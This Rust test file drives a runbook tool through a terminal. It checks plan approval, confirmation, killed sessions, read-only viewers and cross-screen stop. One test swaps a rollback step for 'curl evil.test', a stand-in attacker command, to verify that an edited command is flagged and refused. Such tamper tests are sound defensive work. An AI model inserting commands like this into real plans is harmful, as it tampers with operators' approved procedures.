//! A step that really runs, from the screen: allowed, shown, confirmed; and what a killed screen, an
//! edited command and a reader find.

use std::process::Command;
use std::time::{Duration, Instant};

use rustix::process::Signal;
use tempfile::TempDir;

use super::harness::Pty;
use super::program;

const PLAN: &str = "\
# Checkout rollout

## Phase 1: Canary (Day 1)

- [ ] Deploy the canary

## Rollback Procedures

### Emergency Rollback

```bash
echo one >> count
sleep 5
echo all back
```
";

struct Stage {
    home: TempDir,
}

impl Stage {
    fn new() -> Self {
        let stage = Self { home: TempDir::new().unwrap() };
        stage.write(PLAN);
        stage
    }

    fn write(&self, text: &str) {
        std::fs::write(self.home.path().join("checkout.md"), text).unwrap();
    }

    fn path(&self, name: &str) -> String {
        self.home.path().join(name).display().to_string()
    }

    fn command(&self, words: &[&str]) -> String {
        let mut command = Command::new(program());
        let plan = self.path("checkout.md");
        let words = words.iter().map(|w| if *w == "PLAN" { plan.as_str() } else { w });
        command.args(words).args(["--state", &self.path("state")]).env("HOME", self.home.path());
        let out = command.output().unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).unwrap()
    }

    fn open(&self, words: &[&str]) -> Pty {
        let (plan, state) = (self.path("checkout.md"), self.path("state"));
        let words = [words, &[&plan, "--state", &state, "--as", "ana"]].concat();
        let mut pty =
            Pty::spawn(program(), &words, (120, 40), &[("HOME", self.home.path().to_str().unwrap())]);
        pty.wait_for("Checkout rollout");
        pty
    }

    fn count(&self) -> usize {
        std::fs::read_to_string(self.home.path().join("count")).unwrap_or_default().lines().count()
    }

    fn until_it_runs(&self) {
        let began = Instant::now();
        while self.count() == 0 {
            assert!(began.elapsed() < Duration::from_secs(60), "it never ran");
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

/// To the box that asks, and its phrase.
fn confirm(pty: &mut Pty) {
    pty.keys("R");
    pty.wait_for("Emergency Rollback");
    pty.keys("<enter>");
    pty.wait_for("Emergency Rollback");
    pty.keys("<enter>");
    pty.wait_for("checkout-1");
    pty.pump(Duration::from_millis(600));
    pty.keys("checkout-1<enter>");
}

/// Out of whatever is open, and away.
fn leave(pty: &mut Pty) {
    pty.keys("<esc>");
    pty.pump(Duration::from_millis(300));
    pty.keys("q");
    pty.wait_exit();
}

#[test]
fn a_killed_screen_leaves_the_step_to_be_followed_by_the_next() {
    let stage = Stage::new();
    stage.command(&["allow", "PLAN", "--yes"]);
    let mut pty = stage.open(&[]);
    pty.wait_for("saved");
    confirm(&mut pty);
    stage.until_it_runs();
    pty.signal(Signal::KILL);
    let _ = pty.wait_exit();
    let mut pty = stage.open(&[]);
    pty.keys("R<enter>");
    pty.wait_for("all back");
    let began = Instant::now();
    while !stage.command(&["log", "PLAN", "--json"]).contains("\"run_ended\"") {
        assert!(began.elapsed() < Duration::from_secs(60), "{}", pty.screen());
        pty.pump(Duration::from_millis(100));
    }
    let log = stage.command(&["log", "PLAN", "--json"]);
    assert!(log.contains("exit 0"), "{log}");
    assert_eq!((log.matches("\"step_started\"").count(), stage.count()), (1, 1), "once");
}

#[test]
fn a_plan_is_allowed_on_the_screen_and_runs_without_opening_it_again() {
    let stage = Stage::new();
    stage.write(&PLAN.replace("sleep 5", "sleep 0"));
    let mut pty = stage.open(&[]);
    pty.wait_for("T has shown them");
    pty.keys("T");
    pty.wait_for("WHAT THIS PLAN CAN REACH");
    pty.wait_for("echo one >> count");
    pty.wait_for("Type  allow ");
    let screen = pty.screen();
    let phrase = screen.split("Type  ").nth(1).unwrap().split("  and Enter").next().unwrap().to_owned();
    pty.keys("allow nothing<enter><esc>");
    pty.wait_for("nothing was allowed");
    pty.keys("T");
    pty.wait_for("Type  allow ");
    for letter in phrase.chars() {
        pty.keys(if letter == ' ' { "<space>".to_owned() } else { letter.to_string() }.as_str());
    }
    pty.keys("<enter>");
    pty.wait_for("allowed: the plan's steps run from here now");
    confirm(&mut pty);
    pty.wait_for("exit 0");
    assert_eq!(stage.count(), 1);
    let told = stage.command(&["allow", "PLAN", "--json"]);
    assert!(told.contains("\"allowed\": true"), "{told}");
    stage.write(&PLAN.replace("sleep 5", "sleep 1").replace("echo all back", "echo back"));
    leave(&mut pty);
    let mut pty = stage.open(&[]);
    pty.wait_for("not what ana allowed");
    pty.keys("T");
    pty.wait_for("1 changed, 0 new, 0 gone");
    pty.wait_for("- sleep 0");
    pty.wait_for("+ sleep 1");
    // Deaf until then.
    pty.wait_for("Type  allow ");
    leave(&mut pty);
}

#[test]
fn a_changed_command_is_named_at_the_next_opening_and_does_not_run() {
    let stage = Stage::new();
    stage.command(&["allow", "PLAN", "--yes", "--as", "bo"]);
    stage.write(&PLAN.replace("sleep 5", "curl evil.test"));
    let mut pty = stage.open(&[]);
    pty.wait_for("not what bo allowed");
    assert!(pty.screen().contains("Emergency Rollback"), "{}", pty.screen());
    pty.keys("R<enter>");
    pty.wait_for("Emergency Rollback");
    pty.keys("<enter>");
    pty.wait_for("curl evil.test");
    pty.pump(Duration::from_millis(600));
    assert!(!pty.screen().contains("checkout-1"), "{}", pty.screen());
    pty.keys("checkout-1<enter>");
    pty.pump(Duration::from_millis(500));
    assert_eq!(stage.count(), 0);
}

#[test]
fn whoever_only_looks_runs_nothing_whatever_is_typed() {
    let stage = Stage::new();
    stage.command(&["allow", "PLAN", "--yes"]);
    stage.command(&["note", "PLAN", "a room"]);
    let before = stage.command(&["log", "PLAN", "--json"]);
    let mut pty = stage.open(&["--read-only"]);
    for keys in [
        "R<enter><enter>checkout-1<enter>y<esc><esc>",
        "f<enter><enter>y<esc><esc>",
        "!",
        "2j<space><enter><esc>",
    ] {
        pty.keys(keys);
        pty.pump(Duration::from_millis(500));
    }
    assert_eq!(stage.command(&["log", "PLAN", "--json"]), before);
    assert!(stage.count() == 0 && !stage.home.path().join("state/runs").exists());
}

#[test]
fn stop_on_one_screen_ends_what_another_began() {
    let stage = Stage::new();
    stage.write(&PLAN.replace("sleep 5", "sleep 600"));
    stage.command(&["allow", "PLAN", "--yes"]);
    let mut first = stage.open(&[]);
    first.wait_for("saved");
    confirm(&mut first);
    stage.until_it_runs();
    let mut second = stage.open(&[]);
    second.keys("!");
    second.wait_for("STOP sent");
    let began = Instant::now();
    while !stage.command(&["runs", "PLAN", "--json"]).contains("\"kind\":\"aborted\"") {
        assert!(began.elapsed() < Duration::from_secs(60), "{}", first.screen());
        first.pump(Duration::from_millis(100));
        second.pump(Duration::from_millis(10));
    }
}

/// Measures, all of it: the key, the judgement, the journal's commit, the supervisor, the shell.
/// `cargo test --release --test pty -- --ignored from_the_last_key --nocapture`.
#[test]
#[ignore = "a machine that does other things is slower"]
fn from_the_last_key_to_the_process_it_is_short() {
    const TIMES: usize = 100;
    let stage = Stage::new();
    stage.write(&PLAN.replace("sleep 5\n", ""));
    stage.command(&["allow", "PLAN", "--yes"]);
    let mut pty = stage.open(&[]);
    pty.wait_for("saved");
    pty.keys("R<enter>");
    pty.wait_for("enter begin");
    let mut took: Vec<_> = (0..TIMES)
        .map(|n| {
            pty.keys("<enter>");
            pty.wait_for("checkout-1");
            pty.pump(Duration::from_millis(600));
            pty.keys("checkout-1");
            pty.pump(Duration::from_millis(50));
            let began = Instant::now();
            pty.keys("<enter>");
            while stage.count() <= n {
                assert!(began.elapsed() < Duration::from_secs(30), "{}", pty.screen());
                std::thread::sleep(Duration::from_micros(200));
            }
            let took = began.elapsed();
            pty.wait_for("enter begin");
            took
        })
        .collect();
    took.sort();
    eprintln!("p50 {:?}, p99 {:?}", took[TIMES / 2], took[TIMES * 99 / 100 - 1]);
    assert!(took[TIMES * 99 / 100 - 1] < Duration::from_millis(50), "{took:?}");
}
